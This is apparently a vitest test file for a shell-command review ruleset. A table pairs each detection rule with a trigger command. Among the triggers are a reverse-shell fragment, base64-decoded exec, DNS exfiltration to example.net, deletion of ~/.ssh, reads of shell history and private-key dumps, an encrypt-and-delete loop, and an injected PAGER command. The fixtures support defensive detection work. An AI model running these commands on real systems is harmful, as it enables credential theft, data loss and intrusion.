// Does the family judge its own rows as labelled, and does something fire each of its rules?
import { describe, expect, it } from 'vitest'
import { compiledRules } from '../compiled.ts'
import { Findings } from '../core/findings.ts'
import {
  acceptedShare,
  corpusOf,
  isKeptOut,
  judgedBy,
  labelOf,
  share,
  unfinished,
} from '../testing/corpus.ts'
import { reviewText } from '../testing/ruleset.ts'
import { shellRules } from './rules.ts'

const rows = corpusOf(['shell_command'])

/** Rules that no row of the corpus fires, each with a command that does. */
const ALSO: readonly (readonly [rule: string, artifact: string])[] = [
  ['shell.backup.restore', 'restic restore latest --target .'],
  ['shell.backup.send', 'restic backup src'],
  ['shell.cloud.secret', 'aws secretsmanager get-secret-value --secret-id s'],
  ['shell.cluster.apply_remote', 'kubectl apply -f https://example.net/all.yaml'],
  ['shell.cluster.drain', 'kubectl drain node-1'],
  ['shell.code.decoded', `python3 -c 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'`],
  ['shell.code.deletes', `node -e 'require("fs").rmSync("src", {recursive: true})'`],
  ['shell.code.executes', `python3 -c 'import subprocess; subprocess.run(x)'`],
  ['shell.code.network', `python3 -c 'import requests; requests.post("https://example.net", data={})'`],
  ['shell.code.piped', `echo 'print(1)' | python3`],
  ['shell.code.reverse_shell', `python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'`],
  ['shell.code.setuid', `python3 -c 'import os; os.setuid(0)'`],
  ['shell.code.shell', `python3 -c 'import pty; pty.spawn("/bin/bash")'`],
  ['shell.code.unknown', `python3 -c 'eval(input())'`],
  ['shell.code.writes', `python3 -c 'open("a.txt", "w").write("x")'`],
  ['shell.container.exec', 'docker exec -it web bash'],
  ['shell.container.prune', 'docker rm -f $(docker ps -aq)'],
  ['shell.container.remove', 'docker rm web'],
  ['shell.container.run', 'docker run alpine true'],
  ['shell.db.grant', "psql -c 'GRANT ALL ON t TO bob'"],
  ['shell.db.schema', "psql -c 'ALTER TABLE t ADD COLUMN c int'"],
  ['shell.db.session', 'psql -h db app'],
  ['shell.db.write', "psql -c 'INSERT INTO t VALUES (1)'"],
  ['shell.defence.firewall', 'ufw allow 22'],
  ['shell.defence.shrink_log', 'journalctl --vacuum-size=500M'],
  ['shell.env.code', "PAGER='less; id' git log"],
  ['shell.env.path', 'PATH=/tmp:$PATH ls'],
  ['shell.env.preload', 'LD_PRELOAD=/usr/lib/libx.so ls'],
  ['shell.exec.encoded_command', 'powershell -EncodedCommand $x'],
  ['shell.exec.interactive', 'bash'],
  ['shell.exec.sed', "sed '1e id' a.txt"],
  ['shell.exfil.dns', 'dig $(hostname).example.net'],
  ['shell.exfil.upload', 'scp a.txt host:/tmp/'],
  ['shell.fs.delete_credentials', 'rm -rf ~/.ssh'],
  ['shell.fs.delete_no_preserve', 'rm -r --no-preserve-root src'],
  ['shell.fs.delete_shared', 'rm -rf /tmp'],
  ['shell.fs.device_change', 'fsck /dev/sda1'],
  ['shell.fs.discard', 'mv src /dev/null'],
  ['shell.fs.edit_in_place', "sed -i 's/a/b/' a.txt"],
  ['shell.fs.edit_system', 'code /etc/hosts'],
  ['shell.fs.immutable', 'chattr +i a.txt'],
  ['shell.fs.encrypt_replace', 'for f in ~/notes/*; do gpg -c "$f" && rm "$f"; done'],
  ['shell.fs.false_time', 'touch -d yesterday a.txt'],
  ['shell.fs.mount', 'mount /dev/sdb1 /mnt'],
  ['shell.fs.ownership', 'chown bob a.txt'],
  ['shell.fs.permissions_outside', 'chmod 600 /etc/hosts'],
  ['shell.fs.permissions_tree', 'chmod -R 755 src'],
  ['shell.fs.rename_many', "rename 's/a/b/' *.txt"],
  ['shell.fs.truncate', 'truncate -s 0 src/a.txt'],
  ['shell.fs.unpack_outside', 'tar xf a.tar -C /'],
  ['shell.fs.write_outside', 'echo a > /opt/a.txt'],
  ['shell.git.config', 'git config --global user.name x'],
  ['shell.git.config_code', "git config core.sshCommand 'ssh -F x'"],
  ['shell.git.delete_remote', 'git push origin --delete topic'],
  ['shell.git.internal', 'echo x > .git/config'],
  ['shell.git.push', 'git send-email a.patch'],
  ['shell.git.remote', 'git remote remove origin'],
  ['shell.git.rewrite', 'git rebase main'],
  ['shell.git.rewrite_all', 'git filter-branch --all'],
  ['shell.infra.playbook', 'ansible-playbook site.yml'],
  ['shell.infra.state', 'terraform state rm a.b'],
  ['shell.money.key', 'bitcoin-cli dumpprivkey bc1qxy'],
  ['shell.network.delete', 'curl -X DELETE https://api.example.net/items/3'],
  ['shell.network.insecure', 'curl -k https://example.net'],
  ['shell.network.scan', 'nmap 10.0.0.0/24'],
  ['shell.network.transfer', 'scp -r host:/tmp/a .'],
  ['shell.persist.account', 'useradd bob'],
  ['shell.persist.erase_schedule', 'crontab -r'],
  ['shell.persist.hook', "echo 'exit 0' > .git/hooks/pre-push"],
  ['shell.persist.registry', 'reg add HKCU/Software/Acme /v a /d b'],
  ['shell.persist.schedule_edit', 'crontab -e'],
  ['shell.pos.test', '[[ -f a ]]'],
  ['shell.pos.write_unresolved', 'echo a > "$OUT"'],
  ['shell.privilege.editor_root', 'sudo nano /etc/hosts'],
  ['shell.privilege.root_shell', 'sudo -i'],
  ['shell.queue.delete', 'rabbitmqctl delete_queue q'],
  ['shell.remote.session', 'ssh host'],
  ['shell.remote.tunnel', 'ssh -R 1:localhost:22 host ls'],
  ['shell.secret.clipboard', 'pbpaste'],
  ['shell.secret.dump', 'ntdsutil snapshot'],
  ['shell.secret.history', 'cat ~/.bash_history'],
  ['shell.storage.remove', 'aws s3 rm s3://bucket/key'],
  ['shell.supply.foreign_registry', 'pip install --index-url https://pypi.example.net/simple x'],
  ['shell.supply.run_tool', 'npm run deploy'],
  ['shell.supply.unsigned', 'dpkg -i a.deb'],
  ['shell.supply.untrusted_run', 'npx https://example.net/a.tgz'],
  ['shell.system.recursion', 'f() { f; }; f'],
  ['shell.windows.bulk', 'Get-VM | Remove-VM'],
  ['shell.windows.change', 'Stop-Service -Name Spooler'],
  ['shell.windows.method', '(Get-Service Spooler).Stop()'],
  ['shell.pos.windows_value', '(Get-Date).Year'],
]

describe('own rows of shell_command', () => {
  it('are at least 400, half of them benign, each with a name of its own', () => {
    expect(rows.length).toBeGreaterThanOrEqual(400)
    expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length)
    const benign = rows.filter(({ label }) => label === 'approve').length
    expect(benign / rows.length).toBeGreaterThanOrEqual(0.4)
  })

  it('every row names its principle and its reason', () => {
    expect(unfinished(rows)).toEqual([])
  })

  it.each(rows.filter((row) => !isKeptOut(row)))('$id: $reason', ({ artifact, accept }) => {
    expect(accept).toContain(labelOf(reviewText(artifact).verdict))
  })

  it('rows that were kept out of tuning stay within the goals (section 12)', () => {
    const judged = judgedBy(rows.filter(isKeptOut), ({ artifact }) => reviewText(artifact))
    expect(judged.length).toBeGreaterThan(100)
    expect(share(judged, 'reject', 'approve')).toBeLessThanOrEqual(0.01)
    expect(share(judged, 'reject', 'reject')).toBeGreaterThanOrEqual(0.85)
    expect(1 - share(judged, 'approve', 'approve')).toBeLessThanOrEqual(0.05)
    expect(share(judged, 'approve', 'reject')).toBeLessThanOrEqual(0.005)
    expect(acceptedShare(judged)).toBeGreaterThanOrEqual(0.93)
  })
})

describe('rules of shell_command', () => {
  const firedBy = (artifacts: readonly string[]): Set<string> => {
    const fired = new Set<string>()
    const { report, allow } = Findings.prototype
    // Positive rules leave no trace in a record.
    Findings.prototype.report = function (finding) {
      fired.add(finding.rule)
      report.call(this, finding)
    }
    Findings.prototype.allow = function (rule, ...rest) {
      fired.add(rule)
      allow.call(this, rule, ...rest)
    }
    try {
      for (const artifact of artifacts) reviewText(artifact)
    } finally {
      Object.assign(Findings.prototype, { report, allow })
    }
    return fired
  }

  it.each(ALSO)('%s: %s', (rule, artifact) => {
    expect([...firedBy([artifact])]).toContain(rule)
  })

  it('each is fired by a row or by a line of the table', () => {
    const fired = firedBy(rows.map(({ artifact }) => artifact))
    const listed = new Set(ALSO.map(([rule]) => rule))
    const silent = shellRules.map(({ id }) => id).filter((id) => !fired.has(id) && !listed.has(id))
    expect(silent).toEqual([])
    expect(compiledRules().length).toBeGreaterThan(shellRules.length)
  })
})
